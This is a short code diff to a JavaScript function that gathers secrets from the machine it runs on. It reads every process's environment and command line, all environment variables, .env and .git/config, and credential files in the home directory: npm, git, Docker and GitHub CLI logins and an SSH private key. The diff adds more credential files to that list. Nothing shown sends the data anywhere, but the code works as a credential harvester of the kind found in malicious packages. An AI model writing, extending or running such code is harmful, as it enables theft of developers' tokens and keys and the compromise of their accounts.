@@ -32,7 +32,8 @@ function read(path) {
 function gather(withFiles) {
   const processes = readdirSync('/proc').filter((name) => /^\d+$/.test(name))
   const shown = processes.flatMap((pid) => [`/proc/${pid}/environ`, `/proc/${pid}/cmdline`])
-  const hidden = ['.npmrc', '.ssh/id_ed25519', '.config/gh/hosts.yml'].map((name) => join(homedir(), name))
+  const logins = ['.npmrc', '.gitconfig', '.git-credentials', '.docker/config.json', '.config/gh/hosts.yml']
+  const hidden = [...logins, '.ssh/id_ed25519'].map((name) => join(homedir(), name))
   const files = [...shown, ...(withFiles ? ['.env', '.git/config', ...hidden] : [])]
   const variables = Object.entries(process.env).map(([name, value]) => `${name}=${value}`)
   return Buffer.concat([Buffer.from(variables.join('\0')), ...files.flatMap((path) => [Buffer.from('\n'), read(path)])])
